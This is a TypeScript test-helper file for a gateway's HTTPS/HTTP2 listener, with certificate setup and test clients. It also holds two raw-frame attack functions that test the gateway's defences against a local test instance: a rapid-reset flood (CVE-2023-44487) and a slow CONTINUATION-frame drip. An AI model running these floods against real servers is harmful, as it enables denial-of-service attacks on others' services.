// For the HTTPS listener's tests: a real certificate store (gateway/tls) over a
// self-signed pair for "localhost" in a temporary directory, and small HTTP/2
// and HTTP/1.1-over-TLS clients that trust it. Clients connect to 127.0.0.1
// with SNI "localhost", so no resolver is involved.
import { connect as connectHttp2, type ClientSessionOptions, type ClientHttp2Session, type IncomingHttpHeaders, type IncomingHttpStatusHeader, type OutgoingHttpHeaders } from 'node:http2';
import { request as httpsRequest } from 'node:https';
import type { IncomingHttpHeaders as Http1Headers } from 'node:http';
import { connect as connectTlsSocket } from 'node:tls';
import pino from 'pino';
import { createCertificateStore, type CertificateStore } from '../../../../gateway/tls/certificate-store.ts';
import { readTlsSettings } from '../../../../gateway/tls/settings.ts';
import { makeTempDir, makeTestPair, writeTestPair, type TestPair } from '../../../helpers/test-certificates.ts';
import type { GatewaySettings } from '../../../../gateway/config/settings.ts';
import { startStubUpstream, startTestGateway, type StubUpstream, type TestGateway } from '../proxy/harness.ts';

export interface TestTls {
  store: CertificateStore;
  pair: TestPair;
  close(): void;
}

export async function startTestTls(): Promise<TestTls> {
  const { dir, cleanup } = makeTempDir('h2-test-');
  const pair = await makeTestPair({ names: ['localhost'] });
  writeTestPair(`${dir}/site.crt`, `${dir}/site.key`, pair);
  const settings = readTlsSettings({ TLS_CERT_FILE: `${dir}/site.crt`, TLS_KEY_FILE: `${dir}/site.key` }, { dataDir: dir, reloadDebounceMs: 20 });
  const store = await createCertificateStore({ settings, logger: pino({ level: 'silent' }) });
  return {
    store,
    pair,
    close() {
      store.close();
      cleanup();
    },
  };
}

export function connectH2(port: number, ca: string, options: ClientSessionOptions = {}): ClientHttp2Session {
  const session = connectHttp2(`https://127.0.0.1:${port}`, { ...options, ca, servername: 'localhost' });
  session.on('error', () => {});
  return session;
}

export interface H2Response {
  status: number;
  headers: IncomingHttpHeaders & IncomingHttpStatusHeader;
  text: string;
  json: () => any;
  /** RST_STREAM code when the stream was reset (0: closed normally). */
  rstCode: number;
}

/** One request on an HTTP/2 session; resolves when the stream closes (also when it is reset). */
export function h2Request(session: ClientHttp2Session, headers: OutgoingHttpHeaders, body?: string | Buffer | Array<string | Buffer>): Promise<H2Response> {
  return new Promise((resolve) => {
    const stream = session.request(headers, { endStream: body === undefined });
    let status = 0;
    let responseHeaders = {} as H2Response['headers'];
    const chunks: Buffer[] = [];
    stream.on('response', (h) => {
      responseHeaders = h;
      status = Number(h[':status']);
    });
    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    stream.on('error', () => {});
    stream.on('close', () => {
      const text = Buffer.concat(chunks).toString();
      resolve({ status, headers: responseHeaders, text, json: () => JSON.parse(text), rstCode: stream.rstCode ?? 0 });
    });
    if (body === undefined) return;
    if (Array.isArray(body)) {
      for (const part of body) stream.write(part);
      stream.end();
    } else stream.end(body);
  });
}

/** One HTTP/1.1-over-TLS request (ALPN offers http/1.1 only), on its own connection. */
export function https1Request(port: number, ca: string, path: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: Http1Headers; text: string; alpn: string | false | null }> {
  return new Promise((resolve, reject) => {
    const options = { host: '127.0.0.1', servername: 'localhost', port, path, ca, headers, agent: false as const, ALPNProtocols: ['http/1.1'] };
    const req = httpsRequest(options, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString(), alpn: (res.socket as import('node:tls').TLSSocket).alpnProtocol ?? null }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** An HTTP/2 frame (RFC 9113 §4.1): 9-byte header, then the payload. */
function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK (RFC 7541) literal with an indexed name, never indexed: small, and no table state to keep. */
function literal(nameIndex: number, value: string): Buffer {
  // 0001xxxx: never indexed, name index in 4 bits (the static entries used here are < 15); 7-bit length, no Huffman.
  return Buffer.concat([Buffer.from([0x10 | nameIndex, value.length]), Buffer.from(value)]);
}

export interface RawFloodResult {
  /** Error code of the GOAWAY the gateway sent, or null without one. */
  goawayCode: number | null;
}

/**
 * The rapid-reset attack as CVE-2023-44487 describes it, with raw frames (node:http2's
 * client queues streams behind maxConcurrentStreams; an attacker does not need to):
 * HEADERS for a new stream, RST_STREAM CANCEL right after, `count` times, in a
 * few large writes. Resolves when the gateway closes the connection.
 */
export function rapidResetFlood(port: number, ca: string, path: string, count: number): Promise<RawFloodResult> {
  return new Promise((resolve, reject) => {
    const socket = connectTlsSocket({ host: '127.0.0.1', port, servername: 'localhost', ca, ALPNProtocols: ['h2'] });
    const received: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => received.push(chunk));
    socket.on('error', () => {});
    socket.on('close', () => resolve({ goawayCode: findGoaway(Buffer.concat(received)) }));
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${socket.alpnProtocol}`));
      // :method GET (2), :scheme https (7) from the static table; :path and :authority as literals.
      const block = Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, 'localhost')]);
      const cancel = Buffer.alloc(4);
      cancel.writeUInt32BE(0x8);
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]));
      const batch: Buffer[] = [];
      for (let i = 0; i < count; i++) {
        const id = 2 * i + 1;
        batch.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel));
        if (batch.length === 200) socket.write(Buffer.concat(batch.splice(0)));
      }
      if (batch.length) socket.write(Buffer.concat(batch));
    });
  });
}

function findGoaway(data: Buffer): number | null {
  let offset = 0;
  while (offset + 9 <= data.length) {
    const length = data.readUIntBE(offset, 3);
    const type = data[offset + 3];
    if (type === 0x7 && offset + 9 + 8 <= data.length) return data.readUInt32BE(offset + 9 + 4);
    offset += 9 + length;
  }
  return null;
}

/** A gateway on the HTTPS listener in front of a stub upstream, with an open h2 session to it. */
export interface H2Gateway {
  tls: TestTls;
  stub: StubUpstream;
  gw: TestGateway;
  session: ClientHttp2Session;
  close(): Promise<void>;
}

export async function startH2Gateway(routes: (stubUrl: string) => string, settings: Partial<GatewaySettings> = {}): Promise<H2Gateway> {
  const tls = await startTestTls();
  const stub = await startStubUpstream();
  const gw = await startTestGateway({ yaml: routes(stub.url), tls: tls.store, settings });
  const session = connectH2(gw.port, tls.pair.cert);
  return {
    tls,
    stub,
    gw,
    session,
    async close() {
      session.destroy();
      await gw.close();
      await stub.close();
      tls.close();
    },
  };
}

export interface DripResult {
  /** The gateway closed the connection before the header block was complete. */
  closedWhileDripping: boolean;
  /** CONTINUATION frames sent before it did. */
  framesSent: number;
  goawayCode: number | null;
}

/**
 * A header block that never ends: HEADERS without END_HEADERS for a request whose one
 * extra header's value is `valueBytes` long, then that value a few bytes per
 * CONTINUATION frame, one frame per `intervalMs`. The session is never idle (a frame
 * keeps arriving) and no stream ever opens (its headers never complete). Resolves when
 * the gateway closes the connection, or after `maxFrames` (the block still unfinished).
 */
export function continuationDrip(port: number, ca: string, path: string, options: { intervalMs: number; maxFrames: number; valueBytes?: number }): Promise<DripResult> {
  const valueBytes = options.valueBytes ?? 1000;
  return new Promise((resolve, reject) => {
    const socket = connectTlsSocket({ host: '127.0.0.1', port, servername: 'localhost', ca, ALPNProtocols: ['h2'] });
    const received: Buffer[] = [];
    let framesSent = 0;
    let timer: NodeJS.Timeout | null = null;
    const finish = (closedWhileDripping: boolean) => {
      if (timer) clearInterval(timer);
      timer = null;
      resolve({ closedWhileDripping, framesSent, goawayCode: findGoaway(Buffer.concat(received)) });
    };
    socket.on('data', (chunk: Buffer) => received.push(chunk));
    socket.on('error', () => {});
    socket.on('close', () => finish(framesSent < options.maxFrames));
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${socket.alpnProtocol}`));
      // A literal with a new name, never indexed: 0x10, name length, name, then the
      // value's length as an HPACK integer with a 7-bit prefix (RFC 7541 §5.1).
      const name = Buffer.from('x-drip');
      const length: number[] = [];
      let rest = valueBytes - 127;
      length.push(0x7f);
      while (rest >= 128) {
        length.push((rest & 0x7f) | 0x80);
        rest >>= 7;
      }
      length.push(rest);
      const head = Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, 'localhost'), Buffer.from([0x10, name.length]), name, Buffer.from(length)]);
      // HEADERS with END_STREAM (0x1) and without END_HEADERS (0x4).
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0)), frame(0x1, 0x1, 1, head)]));
      const perFrame = Math.max(1, Math.floor(valueBytes / (options.maxFrames + 1)));
      timer = setInterval(() => {
        if (framesSent >= options.maxFrames) {
          finish(false);
          socket.destroy();
          return;
        }
        framesSent++;
        socket.write(frame(0x9, 0, 1, Buffer.alloc(perFrame, 0x61)));
      }, options.intervalMs);
    });
  });
}
